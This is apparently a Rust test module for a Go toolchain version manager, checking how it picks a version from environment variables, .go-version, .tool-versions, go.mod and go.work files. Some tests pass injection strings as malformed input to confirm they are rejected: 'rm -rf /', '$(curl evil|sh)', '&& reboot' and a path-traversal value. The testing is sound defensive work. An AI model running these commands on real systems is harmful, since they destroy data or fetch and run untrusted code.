use super::*;
use std::fs;

fn v(s: &str) -> GoVersion {
    GoVersion::parse(s).unwrap()
}

fn exact(s: &str) -> Requirement {
    Requirement::Request(VersionRequest::Exact(v(s)))
}

fn at_least(s: &str) -> Requirement {
    Requirement::AtLeast(Minimum::parse(s).unwrap())
}

struct Tree(tempfile::TempDir);

impl Tree {
    fn new() -> Tree {
        Tree(tempfile::tempdir().unwrap())
    }

    fn write(&self, rel: &str, text: &str) -> PathBuf {
        let path = self.0.path().join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
        path
    }

    fn dir(&self, rel: &str) -> PathBuf {
        let path = self.0.path().join(rel);
        fs::create_dir_all(&path).unwrap();
        path
    }

    fn home(&self) -> PathBuf {
        self.dir("home")
    }
}

fn inputs(tree: &Tree) -> Inputs {
    Inputs {
        home: Some(tree.home()),
        ..Inputs::default()
    }
}

fn selected(dir: &Path, inputs: &Inputs) -> (Requirement, Source) {
    let s = select(dir, inputs).unwrap().expect("a selection");
    (s.requirement, s.source)
}

#[test]
fn env_wins_over_everything() {
    let tree = Tree::new();
    tree.write("p/.go-version", "1.21.0\n");
    let mut inputs = inputs(&tree);
    inputs.env_version = Some("go1.22.5".into());
    assert_eq!(
        selected(&tree.dir("p"), &inputs),
        (exact("1.22.5"), Source::Env)
    );
    inputs.env_version = Some("1.22; rm -rf /".into());
    let err = select(&tree.dir("p"), &inputs).unwrap_err().to_string();
    assert!(
        err.starts_with("GVMR_GO_VERSION: \"1.22; rm -rf /\" is not a Go version"),
        "{err}"
    );
}

#[test]
fn nearest_pin_wins_and_go_version_beats_tool_versions() {
    let tree = Tree::new();
    let outer = tree.write("a/.go-version", "1.21.0");
    let tools = tree.write(
        "a/b/.tool-versions",
        "nodejs 20.1.0\ngolang 1.22.5 # pinned\n",
    );
    tree.write("a/b/c/.tool-versions", "python 3.12\n");
    let inputs = inputs(&tree);
    assert_eq!(
        selected(&tree.dir("a/b/c/d"), &inputs),
        (exact("1.22.5"), Source::File(tools.clone()))
    );
    assert_eq!(
        selected(&tree.dir("a"), &inputs),
        (exact("1.21.0"), Source::File(outer))
    );
    let same_dir = tree.write("a/b/.go-version", "# the team's version\n\n  go1.20  \n");
    assert_eq!(
        selected(&tree.dir("a/b"), &inputs),
        (exact("1.20.0"), Source::File(same_dir))
    );
}

#[test]
fn pins_beat_go_mod_even_when_go_mod_is_nearer() {
    let tree = Tree::new();
    let pin = tree.write(".go-version", "1.22");
    tree.write("proj/go.mod", "module x\n\ngo 1.21\n");
    let line = Requirement::Request(VersionRequest::Line {
        major: 1,
        minor: 22,
    });
    assert_eq!(
        selected(&tree.dir("proj"), &inputs(&tree)),
        (line, Source::File(pin))
    );
}

#[test]
fn a_pin_answers_to_the_module_go_uses_wherever_it_sits() {
    // Go uses the nearest go.mod walking up from the directory: a pin
    // below the module's root answers to it as much as one above it.
    let tree = Tree::new();
    let module = tree.write("realmod/go.mod", "module m\n\ngo 1.27\n");
    let pin = tree.write("realmod/sub/.go-version", "1.22.10\n");
    let mut inputs = inputs(&tree);
    let module_of = |dir: &str, inputs: &Inputs| {
        let s = select(&tree.dir(dir), inputs)
            .unwrap()
            .expect("a selection");
        assert_eq!(s.source, Source::File(pin.clone()), "{dir}");
        s.module.map(|m| m.path)
    };
    assert_eq!(module_of("realmod/sub", &inputs), Some(module.clone()));
    assert_eq!(module_of("realmod/sub/pkg", &inputs), Some(module.clone()));
    // A nearer go.mod is the one Go uses.
    let inner = tree.write("realmod/sub/pkg/go.mod", "module p\n\ngo 1.21\n");
    assert_eq!(module_of("realmod/sub/pkg", &inputs), Some(inner));
    // A go.work above them all is used instead, unless GOWORK=off; GOWORK
    // naming a file makes that file the one.
    let work = tree.write("go.work", "go 1.28\n\nuse ./realmod\n");
    assert_eq!(module_of("realmod/sub", &inputs), Some(work));
    inputs.gowork = Some("off".into());
    assert_eq!(module_of("realmod/sub", &inputs), Some(module));
    let named = tree.write("elsewhere/x.work", "go 1.29\n");
    inputs.gowork = Some(named.display().to_string());
    assert_eq!(module_of("realmod/sub", &inputs), Some(named));
}

#[test]
fn go_work_beats_go_mod_unless_gowork_is_off() {
    let tree = Tree::new();
    let work = tree.write("ws/go.work", "go 1.22.1\n\nuse ./m\n");
    let module = tree.write("ws/m/go.mod", "module m\ngo 1.21.3\n");
    let mut inputs = inputs(&tree);
    assert_eq!(
        selected(&tree.dir("ws/m/pkg"), &inputs),
        (at_least("1.22.1"), Source::File(work))
    );
    inputs.gowork = Some("off".into());
    assert_eq!(
        selected(&tree.dir("ws/m/pkg"), &inputs),
        (at_least("1.21.3"), Source::File(module))
    );
}

#[test]
fn go_mod_toolchain_is_exact_and_go_line_is_a_minimum() {
    let o = Path::new("go.mod");
    let parse = |t: &str| parse_go_mod(t, o).unwrap().requirement();
    assert_eq!(
        parse("module x\ngo 1.21\ntoolchain go1.22.5\n"),
        Some(exact("1.22.5"))
    );
    assert_eq!(
        parse("module x\r\ngo 1.21 // comment\r\n"),
        Some(at_least("1.21"))
    );
    assert_eq!(parse("module x\ngo 1.20\n"), Some(at_least("1.20")));
    assert_eq!(
        parse("go 1.22\ntoolchain default\n"),
        Some(at_least("1.22"))
    );
    assert_eq!(parse("toolchain go1.23.1+auto\n"), Some(exact("1.23.1")));
    assert_eq!(
        parse("module x\nrequire (\n\tgo.example/go v1.0.0\n)\n"),
        None
    );
    assert_eq!(parse("// go 1.19\nmodule x\n"), None);
    let err = parse_go_mod("module x\n\ngo banana\n", o)
        .unwrap_err()
        .to_string();
    assert_eq!(
        err,
        "go.mod:3: \"banana\" is not a Go version (expected e.g. 1.22 or 1.22.5)"
    );
    let err = parse_go_mod("toolchain 1.22.5\n", o)
        .unwrap_err()
        .to_string();
    assert!(err.contains("not a toolchain name"), "{err}");
}

#[test]
fn a_toolchain_line_older_than_the_go_line_is_ignored() {
    let o = Path::new("go.mod");
    let module = parse_go_mod("module x\ngo 1.22\ntoolchain go1.21.5\n", o).unwrap();
    assert_eq!(module.toolchain, None);
    assert_eq!(module.requirement(), Some(at_least("1.22")));
    // `go 1.22` admits go1.22rc1 as a toolchain line, as Go orders them.
    let module = parse_go_mod("go 1.22\ntoolchain go1.22rc1\n", o).unwrap();
    assert_eq!(module.requirement(), Some(exact("1.22rc1")));
}

#[test]
fn install_arguments_name_one_version_when_they_can() {
    let line = Requirement::Request(VersionRequest::Line {
        major: 1,
        minor: 22,
    });
    assert_eq!(line.exact(), None);
    assert_eq!(line.install_argument(), "1.22");
    // `1.20` would install the newest 1.20.x, not go1.20.
    assert_eq!(at_least("1.20").install_argument(), "1.20.0");
    assert_eq!(at_least("1.22").install_argument(), "1.22.0");
    assert_eq!(at_least("1.21.6").exact(), Some(v("1.21.6")));
    let list = Requirement::FirstInstalled(vec![
        VersionRequest::parse("1.22").unwrap(),
        VersionRequest::parse("1.21.0").unwrap(),
    ]);
    assert_eq!(list.install_argument(), "1.22");
    assert_eq!(list.to_string(), "1.22 go1.21.0");
    // oldstable is the line before the newest one installed: both it is.
    let oldstable = Requirement::Request(VersionRequest::OldStable);
    assert_eq!(oldstable.install_argument(), "latest oldstable");
}

#[test]
fn default_applies_last_and_none_when_nothing() {
    let tree = Tree::new();
    let inputs = inputs(&tree);
    assert_eq!(select(&tree.dir("x"), &inputs).unwrap(), None);
    let default = tree.write("home/default", "1.22.5\n");
    assert_eq!(
        selected(&tree.dir("x"), &inputs),
        (exact("1.22.5"), Source::Default(default))
    );
}

#[test]
fn malformed_files_name_file_line_and_expectation() {
    let o = Path::new("/p/.go-version");
    let err = |t: &str| parse_go_version_file(t, o).unwrap_err().to_string();
    assert_eq!(
        err("../../etc/passwd"),
        "/p/.go-version:1: \"../../etc/passwd\" is not a Go version (expected e.g. 1.22.5, go1.22.5, 1.22 or latest)"
    );
    assert!(err("$(curl evil|sh)").contains("is not a Go version"));
    let tv = parse_tool_versions("golang\n", Path::new("/p/.tool-versions")).unwrap_err();
    assert_eq!(tv.line, Some(1));
}

#[test]
fn go_version_files_as_goenv_and_mise_write_them() {
    let o = Path::new("/p/.go-version");
    let parse = |t: &str| parse_go_version_file(t, o).unwrap();
    assert_eq!(parse("\n# only a comment\n  \n"), None);
    assert_eq!(parse(""), None);
    let file = parse("1.22.5 # the team's\n1.21.0\n\nlatest\n").unwrap();
    assert_eq!(file.request, VersionRequest::parse("1.22.5").unwrap());
    assert_eq!(
        file.notes(o),
        [
            "/p/.go-version:2: \"1.21.0\" ignored: only the first version (go1.22.5) counts",
            "/p/.go-version:4: \"latest\" ignored: only the first version (go1.22.5) counts",
        ]
    );
    assert_eq!(
        parse("v1.22.5\n").unwrap().request,
        VersionRequest::parse("1.22.5").unwrap()
    );
    assert_eq!(parse("system\n").unwrap().request, VersionRequest::System);
    // One version per line still: inner words are refused, never run.
    assert!(parse_go_version_file("1.22.5 && reboot\n", o).is_err());
    assert!(parse_go_version_file("vv1.22\n", o).is_err());
}

#[test]
fn lookup_lists_every_file_it_read_and_notes_skipped_ones() {
    let tree = Tree::new();
    let pin = tree.write("a/.go-version", "\u{feff}1.22.5\n");
    let blank = tree.write("a/b/.go-version", "# nothing yet\n");
    let tools = tree.write("a/b/.tool-versions", "nodejs 20\n");
    let module = tree.write("a/b/c/go.mod", "module m\n\ngo 1.21\n");
    let default = tree.write("home/default", "1.23.0\n");
    let found = lookup(&tree.dir("a/b/c/d"), &inputs(&tree));
    let selection = found.result.unwrap().unwrap();
    assert_eq!(selection.source, Source::File(pin.clone()));
    assert_eq!(selection.requirement, exact("1.22.5"));
    assert_eq!(
        selection.module.as_ref().map(|m| m.path.clone()),
        Some(module.clone())
    );
    assert_eq!(selection.default, VersionRequest::parse("1.23.0").ok());
    assert_eq!(
        found.consulted,
        [blank.clone(), tools, pin, module, default]
    );
    assert_eq!(
        found.notes,
        [format!(
            "{} holds no version (only blanks or comments); skipped as if absent",
            blank.display()
        )]
    );
    // Nothing selected: the files read are still reported.
    let lone = tree.write("z/.go-version", "\n");
    let found = lookup(&tree.dir("z"), &Inputs::default());
    assert_eq!(found.result, Ok(None));
    assert_eq!(found.consulted, [lone]);
}

#[test]
fn tool_versions_lists_are_fallbacks_and_boms_are_dropped() {
    let o = Path::new("/p/.tool-versions");
    let parse = |t: &str| parse_tool_versions(t, o).unwrap();
    assert_eq!(
        parse("golang 1.22.5 1.21.0 system\n"),
        Some(Requirement::FirstInstalled(vec![
            VersionRequest::parse("1.22.5").unwrap(),
            VersionRequest::parse("1.21.0").unwrap(),
            VersionRequest::System,
        ]))
    );
    let tree = Tree::new();
    let tv = tree.write("p/.tool-versions", "\u{feff}golang 1.22.5\n");
    assert_eq!(
        selected(&tree.dir("p"), &inputs(&tree)),
        (exact("1.22.5"), Source::File(tv))
    );
}

#[test]
fn binary_and_huge_files_are_refused_with_the_file_named() {
    let tree = Tree::new();
    let junk = tree.0.path().join("bin/.go-version");
    fs::create_dir_all(junk.parent().unwrap()).unwrap();
    fs::write(&junk, [0xff, 0xfe, 0x00, 0x01]).unwrap();
    let err = select(&tree.dir("bin"), &inputs(&tree)).unwrap_err();
    assert!(err.to_string().contains("not UTF-8"), "{err}");
    let huge = "1.22.5\n".repeat(20_000);
    tree.write("huge/.go-version", &huge);
    let err = select(&tree.dir("huge"), &inputs(&tree)).unwrap_err();
    assert!(err.to_string().contains("larger than"), "{err}");
    assert!(err.origin.ends_with("huge/.go-version"));
}

#[test]
fn candidates_cover_every_level_and_the_default() {
    let files = candidate_files(Path::new("/a/b"), Some(Path::new("/h")));
    assert!(files.contains(&PathBuf::from("/a/b/.go-version")));
    assert!(files.contains(&PathBuf::from("/go.mod")));
    assert_eq!(files.last(), Some(&PathBuf::from("/h/default")));
    assert_eq!(files.len(), 13);
}
